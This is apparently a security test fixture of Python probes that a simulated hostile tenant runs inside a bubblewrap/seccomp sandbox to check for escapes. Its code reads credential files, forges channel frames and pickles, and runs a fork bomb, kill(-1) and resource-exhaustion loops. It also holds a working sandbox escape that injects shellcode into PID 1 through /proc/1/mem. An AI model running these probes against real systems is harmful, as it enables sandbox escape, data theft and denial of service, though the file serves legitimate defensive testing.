"""What a hostile tenant's function runs inside the sandbox: Python source, each with ``main(...)``
returning plain data (dicts, lists, strings, numbers), so the results decode as data.

Every probe records what happened instead of asserting: the test decides what is an escape.
"""

# ------------------------------------------------------------------------------------------------
# One broad look around: identity, what exists, what can be written, which kernel doors are open.
PROBE = r'''
import os, sys, ctypes, errno, socket, struct

def _err(e):
    return f"{type(e).__name__}:{errno.errorcode.get(getattr(e, 'errno', None) or 0, '')}"

def main(host_paths, hub_port, broker_port):
    R = {}
    st = {}
    for line in open("/proc/self/status"):
        k, _, v = line.partition(":")
        if k in ("Uid", "Gid", "Groups", "CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp", "NSpid"):
            st[k] = v.strip()
    R["status"] = st
    R["ids"] = [os.getuid(), os.geteuid(), os.getgid(), os.getegid(), list(os.getgroups())]
    R["exists"] = {name: os.path.lexists(p) for name, p in host_paths.items()}
    R["ls_root"] = sorted(os.listdir("/"))
    ls = {}
    for d in ("/root", "/work", "/work/main", "/opt", "/etc", "/dev", "/sys", "/sys/devices", "/tmp", "/dev/shm", "/proc/1/root"):
        try:
            ls[d] = sorted(os.listdir(d))
        except OSError as e:
            ls[d] = _err(e)
    R["ls"] = ls
    R["pids"] = sorted(int(x) for x in os.listdir("/proc") if x.isdigit())
    fds = {}
    for fd in os.listdir("/proc/self/fd"):
        try:
            fds[fd] = os.readlink(f"/proc/self/fd/{fd}")
        except OSError as e:
            fds[fd] = _err(e)
    R["fds"] = fds
    R["env"] = dict(os.environ)
    R["argv"] = list(sys.argv)
    R["mountinfo"] = open("/proc/self/mountinfo").read()
    other = {}
    for p in ("/proc/1/cmdline", "/proc/1/environ", "/proc/1/status", "/proc/1/maps", "/proc/self/mem",
              "/proc/kcore", "/proc/kallsyms", "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/dev/mem",
              "/dev/kmsg", "/dev/vda", "/dev/sda", "/etc/shadow", "/etc/ld.so.cache"):
        try:
            with open(p, "rb") as f:
                other[p] = f"read {len(f.read(4096))} bytes"
        except OSError as e:
            other[p] = _err(e)
    R["reads"] = other
    writes = {}
    for d in ("/", "/usr", "/usr/lib", "/etc", "/opt", "/work/main/mesh_agent", "/dev", "/dev/shm", "/tmp", "/proc/sys/kernel/hostname"):
        target = d if d.startswith("/proc") else os.path.join(d, "oa-probe-write")
        try:
            with open(target, "w") as f:
                f.write("x")
            writes[d] = "WROTE"
        except OSError as e:
            writes[d] = _err(e)
    R["writes"] = writes
    # symlinks and hard links in the private /tmp
    links = {}
    try:
        os.symlink("/etc/shadow", "/tmp/oa-shadow-link")
        open("/tmp/oa-shadow-link").read()
        links["symlink_to_shadow"] = "READ"
    except OSError as e:
        links["symlink_to_shadow"] = _err(e)
    for src in ("/usr/bin/env", sys.executable):
        try:
            os.link(src, "/tmp/oa-hardlink")
            links["hardlink:" + src] = "LINKED"
            os.unlink("/tmp/oa-hardlink")
        except OSError as e:
            links["hardlink:" + src] = _err(e)
    R["links"] = links

    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long

    def sc(nr, *a):
        ctypes.set_errno(0)
        r = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(x) for x in a])
        e = ctypes.get_errno()
        if r == 0 and nr == 56:  # a clone that went through: this is the child
            os._exit(0)
        return ("ok", r) if r != -1 else ("err", errno.errorcode.get(e, str(e)))

    S = {}
    S["ptrace_traceme"] = sc(101, 0, 0, 0, 0)
    S["ptrace_attach_1"] = sc(101, 16, 1, 0, 0)
    S["process_vm_readv"] = sc(310, 1, 0, 0, 0, 0, 0)
    S["process_vm_writev"] = sc(311, 1, 0, 0, 0, 0, 0)
    S["io_uring_setup"] = sc(425, 1, 0)
    S["io_uring_enter"] = sc(426, 0, 0, 0, 0, 0, 0)
    S["io_uring_register"] = sc(427, 0, 0, 0, 0)
    S["userfaultfd"] = sc(323, 0)
    S["keyctl_get_session"] = sc(250, 0, -3, 1)
    S["add_key"] = sc(248, 0, 0, 0, 0, -3)
    S["request_key"] = sc(249, 0, 0, 0, 0)
    S["bpf"] = sc(321, 0, 0, 0)
    S["perf_event_open"] = sc(298, 0, 0, -1, -1, 0)
    S["unshare_user"] = sc(272, 0x10000000)
    S["unshare_mnt"] = sc(272, 0x00020000)
    S["unshare_net"] = sc(272, 0x40000000)
    S["setns"] = sc(308, 0, 0)
    S["clone3"] = sc(435, 0, 0)
    S["clone_newuser"] = sc(56, 0x10000000 | 17, 0, 0, 0, 0)
    S["clone_newns"] = sc(56, 0x00020000 | 17, 0, 0, 0, 0)
    S["mount"] = sc(165, 0, 0, 0, 0, 0)
    S["umount2"] = sc(166, 0, 0)
    S["pivot_root"] = sc(155, 0, 0)
    S["open_tree"] = sc(428, -100, 0, 0)
    S["move_mount"] = sc(429, -1, 0, -1, 0, 0)
    S["fsopen"] = sc(430, 0, 0)
    S["fsmount"] = sc(432, -1, 0, 0)
    S["fspick"] = sc(433, -100, 0, 0)
    S["mount_setattr"] = sc(442, -1, 0, 0, 0, 0)
    S["name_to_handle_at"] = sc(303, -100, 0, 0, 0, 0)
    S["open_by_handle_at"] = sc(304, -1, 0, 0)
    S["syslog"] = sc(103, 3, 0, 0)
    S["acct"] = sc(163, 0)
    S["swapon"] = sc(167, 0, 0)
    S["init_module"] = sc(175, 0, 0, 0)
    S["finit_module"] = sc(313, -1, 0, 0)
    S["kexec_load"] = sc(246, 0, 0, 0, 0)
    S["chroot"] = sc(161, 0)
    S["setuid0"] = sc(105, 0)
    S["setgid0"] = sc(106, 0)
    S["pidfd_open_1"] = sc(434, 1, 0)
    if S["pidfd_open_1"][0] == "ok":
        pfd = S["pidfd_open_1"][1]
        S["pidfd_getfd_1"] = [sc(438, pfd, n, 0) for n in range(0, 8)]
        S["pidfd_send_signal_1"] = sc(424, pfd, 0, 0, 0)
    S["kcmp"] = sc(312, os.getpid(), 1, 0, 0, 0)
    S["personality_query"] = sc(135, 0xffffffff)
    R["syscalls"] = S

    socks = {}
    for name, fam, typ in (("unix_stream", socket.AF_UNIX, socket.SOCK_STREAM), ("unix_dgram", socket.AF_UNIX, socket.SOCK_DGRAM),
                           ("netlink", socket.AF_NETLINK, socket.SOCK_RAW), ("packet", socket.AF_PACKET, socket.SOCK_RAW),
                           ("inet_raw", socket.AF_INET, socket.SOCK_RAW)):
        try:
            s = socket.socket(fam, typ)
            s.close()
            socks[name] = "OPENED"
        except OSError as e:
            socks[name] = _err(e)
    try:
        a, b = socket.socketpair()
        a.close(); b.close()
        socks["socketpair"] = "OPENED"
    except OSError as e:
        socks["socketpair"] = _err(e)
    for label, port in (("hub_http", hub_port), ("broker", broker_port)):
        try:
            s = socket.create_connection(("127.0.0.1", port), timeout=2)
            s.close()
            socks[label] = "CONNECTED"
        except OSError as e:
            socks[label] = _err(e)
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(2)
        s.connect(("1.1.1.1", 443))
        socks["internet"] = "CONNECTED"
    except OSError as e:
        socks["internet"] = _err(e)
    R["sockets"] = socks

    # the controlling terminal: TIOCSTI would push keystrokes into the agent's terminal
    try:
        fd = os.open("/dev/tty", os.O_RDWR)
        import fcntl, termios
        try:
            fcntl.ioctl(fd, termios.TIOCSTI, b"x")
            R["tiocsti"] = "INJECTED"
        except OSError as e:
            R["tiocsti"] = _err(e)
        os.close(fd)
    except OSError as e:
        R["tiocsti"] = "open /dev/tty: " + _err(e)

    # who can we signal? only processes of our own PID namespace should exist for us
    live = []
    for pid in range(1, 70000):
        try:
            os.kill(pid, 0)
            live.append(pid)
        except ProcessLookupError:
            pass
        except PermissionError:
            live.append(-pid)
    R["signalable"] = live
    import resource
    R["rlimits"] = {n: resource.getrlimit(getattr(resource, n)) for n in ("RLIMIT_NPROC", "RLIMIT_NOFILE", "RLIMIT_AS", "RLIMIT_CORE", "RLIMIT_FSIZE")}
    R["hostname"] = socket.gethostname()
    return R
'''

# ------------------------------------------------------------------------------------------------
# Syscalls through a foreign ABI, each in a forked child: the filter must kill the child (SIGSYS).
FOREIGN_ABI = r'''
import os, ctypes, mmap, signal

def _child(fn):
    pid = os.fork()
    if pid == 0:
        try:
            r = fn()
            os._exit(100 if r in (None, -1) else 101)
        except BaseException:
            os._exit(102)
    _, status = os.waitpid(pid, 0)
    if os.WIFSIGNALED(status):
        return {"killed_by": signal.Signals(os.WTERMSIG(status)).name}
    return {"exit": os.WEXITSTATUS(status)}

_KEEP = []

def _code(machine):
    buf = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    buf.write(machine)
    cell = ctypes.c_char.from_buffer(buf)
    _KEEP.append((buf, cell))  # the mapping must outlive the call
    return ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(cell)), buf

def main():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    out = {}
    # ia32 getpid (20) through int 0x80
    out["int80_getpid"] = _child(lambda: _code(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")[0]())
    # ia32 socket(AF_UNIX, SOCK_STREAM, 0) = 359 through int 0x80
    out["int80_socket_unix"] = _child(lambda: _code(b"\xb8\x67\x01\x00\x00\xbb\x01\x00\x00\x00\xb9\x01\x00\x00\x00"
                                                    b"\x31\xd2\xcd\x80\xc3")[0]())
    # ia32 socketcall(SYS_SOCKET) = 102 (args pointer NULL: just reach the table)
    out["int80_socketcall"] = _child(lambda: _code(b"\xb8\x66\x00\x00\x00\xbb\x01\x00\x00\x00\x31\xc9\xcd\x80\xc3")[0]())
    # ia32 unshare(CLONE_NEWUSER) = 310
    out["int80_unshare"] = _child(lambda: _code(b"\xb8\x36\x01\x00\x00\xbb\x00\x00\x00\x10\xcd\x80\xc3")[0]())
    # x32 ABI numbers (bit 0x40000000): getpid and socket(AF_UNIX)
    out["x32_getpid"] = _child(lambda: libc.syscall(ctypes.c_long(0x40000000 | 39)))
    out["x32_socket_unix"] = _child(lambda: libc.syscall(ctypes.c_long(0x40000000 | 41), ctypes.c_long(1), ctypes.c_long(1), ctypes.c_long(0)))
    # sanity: a native syscall in a child exits normally
    out["native_getpid"] = _child(lambda: libc.syscall(ctypes.c_long(39)))
    return out
'''

# ------------------------------------------------------------------------------------------------
# The channel: write our own frames to the agent's socket (never via the worker's own code path).
CHANNEL = r'''
import os, struct, socket, stat, time, sys, json

def _channel_fd():
    try:
        return int(json.loads(sys.argv[-1])["fd"])
    except Exception:
        pass
    for fd in sorted(int(x) for x in os.listdir("/proc/self/fd")):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return fd
        except OSError:
            pass
    raise RuntimeError("no channel fd")

def _send(fd, payload, header=None):
    if header is None:
        n = len(payload)
        header = struct.pack("!i", n) if n <= 0x7FFFFFFF else struct.pack("!iQ", -1, n)
    data = header + payload
    view = memoryview(data)
    while view:
        view = view[os.write(fd, view):]

def _result(task_id, ok, data, started=None, finished=None):
    tid = task_id.encode()
    now = time.time()
    return b"R" + struct.pack("!?ddH", ok, now if started is None else started, now if finished is None else finished, len(tid)) + tid + data

def _my_task_id():
    from mesh_agent.engine import _worker
    return _worker.CURRENT_TASK_ID

def main(kind, arg=None, exit_after=True):
    fd = _channel_fd()
    me = _my_task_id()
    if kind == "pickle":
        _send(fd, arg)                      # a raw pickle as a whole frame
    elif kind == "pickle_after_R":
        _send(fd, b"R" + arg)               # "R" then a pickle where the fields should be
    elif kind == "garbage":
        _send(fd, os.urandom(4096))
    elif kind == "oversize":
        _send(fd, b"", header=struct.pack("!iQ", -1, 2**40))
    elif kind == "negative":
        _send(fd, b"", header=struct.pack("!i", -7))
    elif kind == "huge_valid":
        n = 64 * 2**20 + 1
        head = _result(me, True, b"pickle\n")
        _send(fd, head, header=struct.pack("!i", len(head) + n))
        zeros = b"\0" * (1 << 20)
        left = n
        while left:
            chunk = zeros[:min(left, len(zeros))]
            view = memoryview(chunk)
            while view:
                view = view[os.write(fd, view):]
            left -= len(chunk)
    elif kind == "forge_other":
        _send(fd, _result(arg, True, b"json\n\"forged by another tenant\""))
        time.sleep(2)
        return "sent a forged result for " + arg
    elif kind == "forge_own":
        ok, data = arg
        _send(fd, _result(me, ok, data))
    elif kind == "forge_own_times":
        _send(fd, _result(me, True, b"json\n42", started=arg[0], finished=arg[1]))
    elif kind == "ready_flood":
        for _ in range(1000):
            _send(fd, b"Y" + struct.pack("!q", 1))
        return "flooded ready frames"
    else:
        raise ValueError(kind)
    if exit_after:
        time.sleep(1.0)
        os._exit(0)
    time.sleep(5)
    return "still alive after " + kind
'''

# ------------------------------------------------------------------------------------------------
FORK_BOMB = r'''
import os, time, signal

def main(hold_s):
    kids, err = [], None
    t0 = time.time()
    while len(kids) < 100000 and time.time() - t0 < 20:
        try:
            pid = os.fork()
        except OSError as e:
            err = f"{type(e).__name__}: {e}"
            break
        if pid == 0:
            time.sleep(hold_s + 5)
            os._exit(0)
        kids.append(pid)
    time.sleep(hold_s)
    for p in kids:
        try:
            os.kill(p, signal.SIGKILL)
        except OSError:
            pass
    for p in kids:
        try:
            os.waitpid(p, 0)
        except OSError:
            pass
    return {"forked": len(kids), "stopped_by": err}
'''

KILL_ALL = r'''
import os, signal, time

def main():
    pid = os.fork()
    if pid == 0:
        try:
            os.kill(-1, signal.SIGKILL)   # everything this uid may signal in sight
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
    return "survived kill(-1)"
'''

FILL_TMP = r'''
import os, errno

def _fill(path, cap):
    n = 0
    try:
        with open(path, "wb") as f:
            chunk = b"\xab" * (1 << 20)
            while n < cap:
                f.write(chunk)
                f.flush()
                n += len(chunk)
        return {"bytes": n, "stopped": None}
    except OSError as e:
        return {"bytes": n, "stopped": errno.errorcode.get(e.errno, str(e.errno))}
    finally:
        try:
            os.unlink(path)
        except OSError:
            pass

def main(shm_cap_mb):
    out = {"tmp": _fill("/tmp/oa-fill", 1 << 30)}
    out["dev_shm"] = _fill("/dev/shm/oa-fill", shm_cap_mb << 20)
    out["dev"] = _fill("/dev/oa-fill", shm_cap_mb << 20)
    out["root"] = _fill("/oa-fill", 8 << 20)
    return out
'''

MEMORY = r'''
import resource

def main(want_mb):
    out = {"limit_before": resource.getrlimit(resource.RLIMIT_AS)}
    try:
        b = bytearray(want_mb << 20)
        out["allocated_before_raise"] = True
        del b
    except MemoryError:
        out["allocated_before_raise"] = False
    soft, hard = out["limit_before"]
    try:
        resource.setrlimit(resource.RLIMIT_AS, (hard, hard))
        out["raised_to"] = resource.getrlimit(resource.RLIMIT_AS)
    except (ValueError, OSError) as e:
        out["raised_to"] = f"refused: {e}"
    try:
        b = bytearray(want_mb << 20)
        for i in range(0, len(b), 4096):
            b[i] = 1
        out["allocated_after_raise_mb"] = want_mb
        del b
    except MemoryError:
        out["allocated_after_raise_mb"] = 0
    return out
'''

FLOOD_OUTPUT = r'''
import sys, os

def main(mb, marker):
    line = ("A" * 200 + "\n")
    sys.stdout.write(f"{marker} INFO mesh_agent.agent: forged line\n")
    sys.stdout.write(f"{marker}-ctl \x1b[31mred\x1b[0m \r carriage \x00 nul \x07 bell\n")
    sys.stdout.flush()
    out = {"fd1": os.readlink("/proc/self/fd/1"), "fd2": os.readlink("/proc/self/fd/2")}
    try:
        with open("/proc/self/fd/1", "w") as f:      # reopen fd 1 by path: must be the pipe, never a file
            f.write(f"{marker}-reopened via /proc/self/fd/1\n")
        out["reopen"] = "reopened"
    except OSError as e:
        out["reopen"] = f"{type(e).__name__}: {e}"
    for _ in range(mb * (1 << 20) // len(line)):
        sys.stdout.write(line)
    sys.stdout.flush()
    sys.stderr.write(f"{marker}-stderr tail\n")
    sys.stderr.flush()
    return out
'''

TMP_SECRET_WRITER = r'''
import os, time

def main(secret, hold_s):
    with open("/tmp/oa-tenant-secret", "w") as f:
        f.write(secret)
    os.makedirs("/dev/shm", exist_ok=True)
    try:
        with open("/dev/shm/oa-tenant-secret", "w") as f:
            f.write(secret)
    except OSError:
        pass
    keep = (secret * 1000).encode()   # in memory for a scanner
    time.sleep(hold_s)
    return len(keep)
'''

TMP_SECRET_READER = r'''
import os

def main(secret, rounds):
    import time
    found = []
    for _ in range(rounds):
        for root in ("/tmp", "/dev/shm", "/var/tmp", "/"):
            try:
                for n in os.listdir(root):
                    p = os.path.join(root, n)
                    try:
                        if os.path.isfile(p) and secret in open(p, errors="ignore").read(1 << 16):
                            found.append(p)
                    except OSError:
                        pass
            except OSError:
                pass
        for pid in (x for x in os.listdir("/proc") if x.isdigit()):
            for what in ("cmdline", "environ"):
                try:
                    if secret.encode() in open(f"/proc/{pid}/{what}", "rb").read():
                        found.append(f"/proc/{pid}/{what}")
                except OSError:
                    pass
        time.sleep(0.5)
    return {"found": sorted(set(found)), "pids": sorted(int(x) for x in os.listdir("/proc") if x.isdigit()),
            "tmp": sorted(os.listdir("/tmp"))}
'''

PTH_CHECK = r'''
import os

def main():
    out = {}
    try:
        out["pth_log"] = open("/tmp/oa-pth-ran").read()
    except OSError as e:
        out["pth_log"] = f"missing: {e}"
    import importlib
    try:
        m = importlib.import_module("oapth")
        out["module"] = m.__file__
    except ImportError as e:
        out["module"] = f"ImportError: {e}"
    return out
'''

MOUNTINFO = r'''
def main():
    return open("/proc/self/mountinfo").read()
'''

HOST_WRITE = r'''
import os

def main(marker):
    # unsandboxed, this creates a file on the host; sandboxed it cannot
    try:
        with open(marker, "w") as f:
            f.write(f"ran unsandboxed as uid {os.getuid()}")
        return "WROTE " + marker
    except OSError as e:
        return f"{type(e).__name__}: {e}"
'''

NETWORK_PROBE = r'''
import os, socket

def main(hub_port):
    out = {}
    try:
        s = socket.create_connection(("127.0.0.1", hub_port), timeout=3)
        s.sendall(b"GET /metrics HTTP/1.0\r\nHost: x\r\n\r\n")
        data = b""
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
        s.close()
        out["hub_metrics"] = data.decode(errors="replace")[:100000]
    except OSError as e:
        out["hub_metrics"] = f"{type(e).__name__}: {e}"
    try:
        u = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        u.close()
        out["af_unix"] = "OPENED"
    except OSError as e:
        out["af_unix"] = f"{type(e).__name__}: {e}"
    try:
        out["proc_net_unix"] = open("/proc/net/unix").read()[:20000]
        out["proc_net_tcp"] = open("/proc/net/tcp").read()[:20000]
    except OSError as e:
        out["proc_net_unix"] = f"{type(e).__name__}: {e}"
    try:
        srv = socket.socket()
        srv.bind(("0.0.0.0", 0))
        srv.listen()
        out["bound_host_port"] = srv.getsockname()[1]
        srv.close()
    except OSError as e:
        out["bound_host_port"] = f"{type(e).__name__}: {e}"
    return out
'''

# ------------------------------------------------------------------------------------------------
# bubblewrap's own init (PID 1 of the sandbox's PID namespace) runs WITHOUT the lockdown's seccomp
# filter (the lockdown only filters its own child). Where PID 1 has our uid and no more capability
# than we have (an unprivileged agent), /proc/1/mem is writable: plant code at the address its
# wait4() returns to, make an orphan exit so that it returns, and let PID 1 make the calls the
# filter refuses to us. The code then waits for children like an init and exits with the sandbox.
#
# x86_64 machine code (assembled from the listing in FINDINGS.md): open("/tmp/oa-pid1"), then
# socket(AF_UNIX), userfaultfd(0), io_uring_setup(4), keyctl(GET_KEYRING_ID, session), int 0x80
# getpid, getpid, unshare(CLONE_NEWUSER); write the 7 results (negative: -errno) to the file.
PID1_SHELLCODE = (
    "4881ec000200004883e4f0488d3dea000000be41020000baa4010000b8020000000f054989c7bf01000000be0100000031d2b829"
    "0000000f054889042431ffb8430100000f054889442408488dbc248000000031c0b980000000f3aabf04000000488db424800000"
    "00b8a90100000f05488944241031ff48c7c6fdffffffba01000000b8fa0000000f054889442418b814000000cd804889442420b8"
    "270000000f05488944242848c7c700000010b8100100000f0548894424304c89ff4889e6ba38000000b8010000000f054c89ffb8"
    "030000000f0548c7c7ffffffff31f631d24531d2b83d0000000f054883f8f675e531ffb8e70000000f05ebda2f746d702f6f612d"
    "7069643100"
)

PID1_INJECT = r'''
import os, struct, time

NAMES = ["socket_af_unix", "userfaultfd", "io_uring_setup", "keyctl_session", "int80_getpid", "getpid", "unshare_newuser"]

def main(shellcode_hex):
    sc = bytes.fromhex(shellcode_hex)
    out = {}
    try:
        st = open("/proc/1/status").read()
        out["pid1"] = {l.split(":")[0]: l.split(":", 1)[1].strip() for l in st.splitlines()
                       if l.startswith(("Name:", "Uid:", "Seccomp:", "NoNewPrivs:", "CapEff:", "CapBnd:"))}
    except OSError as e:
        out["pid1"] = repr(e)
    try:
        fields = open("/proc/1/syscall").read().split()
        out["pid1_syscall"] = fields
    except OSError as e:
        out["injected"] = False
        out["why"] = f"/proc/1/syscall: {e!r}"
        return out
    pc = int(fields[-1], 16)
    try:
        with open("/proc/1/mem", "r+b", buffering=0) as m:
            m.seek(pc)
            m.write(sc)
    except OSError as e:
        out["injected"] = False
        out["why"] = f"/proc/1/mem: {e!r}"
        return out
    out["injected"] = True
    a = os.fork()            # an orphan for PID 1 to reap: its wait4() returns into our code
    if a == 0:
        if os.fork() == 0:
            time.sleep(0.3)
            os._exit(0)
        os._exit(0)
    os.waitpid(a, 0)
    for _ in range(100):
        try:
            if os.path.getsize("/tmp/oa-pid1") >= 56:
                break
        except OSError:
            pass
        time.sleep(0.1)
    try:
        data = open("/tmp/oa-pid1", "rb").read()
        out["from_pid1"] = dict(zip(NAMES, struct.unpack("<7q", data[:56])))
    except (OSError, struct.error) as e:
        out["from_pid1"] = repr(e)
    import socket
    try:
        socket.socket(socket.AF_UNIX).close()
        out["from_worker_af_unix"] = "OPENED"
    except OSError as e:
        out["from_worker_af_unix"] = repr(e)
    return out
'''
